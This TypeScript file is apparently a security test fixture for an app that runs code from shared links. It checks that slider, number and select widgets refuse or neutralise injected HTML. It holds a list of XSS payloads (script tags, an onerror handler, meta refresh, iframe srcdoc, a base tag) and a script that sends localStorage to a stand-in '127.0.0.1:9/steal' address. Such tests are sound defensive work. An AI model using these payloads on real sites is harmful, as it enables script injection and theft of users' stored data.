import { deflateRawSync } from 'node:zlib';

/* One press of Run on the code of a link must give a stranger nothing: no script in the page, no other page. */

/** What would show that the chain held: the page's title becomes `owned`, or the reader is led elsewhere. */
const script =
  "document.title = 'owned'; location.href = 'http://127.0.0.1:9/steal?' + JSON.stringify(localStorage)";

const markups = [
  `0"><script src="BLOB"></script>`,
  `0"><script>${script}</script>`,
  `0"><meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/steal">`,
  `0"><img src="x" onerror="${script}">`,
  `0"><iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>`,
  `0"><form action="http://127.0.0.1:9/steal"><button id="go">δ</button></form>`,
  `0"><base href="http://127.0.0.1:9/">`,
];

/** Tries each markup in every field of every input; says how many were refused, and draws those that may hold text. */
export const hostileCode = `const evil = URL.createObjectURL(new Blob([${JSON.stringify(script)}], { type: 'text/javascript' }));
const markups = ${JSON.stringify(markups)}.map((text) => text.replace('BLOB', evil));
let refused = 0;
for (const text of markups) {
  for (const field of ['min', 'max', 'step', 'value']) {
    for (const make of [slider, number] as any[]) {
      try { make({ label: 'δ', min: 0, max: 1, [field]: text }); } catch { refused += 1; }
      try { make({ label: 'δ', min: 0, max: 1, [field]: { toString: () => text, valueOf: () => text } }); } catch { refused += 1; }
      try { make({ label: 'δ', min: 0, max: 1, [field]: [text] }); } catch { refused += 1; }
    }
  }
  (slider as any)({ label: text, min: 0, max: 1 });
  (select as any)({ label: 'of ' + text, options: [text] });
}
(slider as any)({ label: 'δ', min: markups[0], max: 1 });`;

/** How many inputs the code draws: a slider and a select for each markup. */
export const drawn = 2 * markups.length;

/** A link with the code, as one stranger would send it to another. */
export const hostileLink = (cell: string): string =>
  `#cell=${cell}&code=${deflateRawSync(hostileCode).toString('base64url')}`;
